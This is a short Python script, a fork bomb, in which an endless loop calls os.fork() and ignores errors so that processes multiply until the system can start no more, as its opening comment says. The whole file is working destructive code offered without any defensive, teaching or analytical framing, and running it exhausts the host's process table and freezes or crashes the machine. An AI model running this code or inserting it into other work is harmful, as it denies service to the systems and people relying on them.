# Forks until nothing more can be started.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
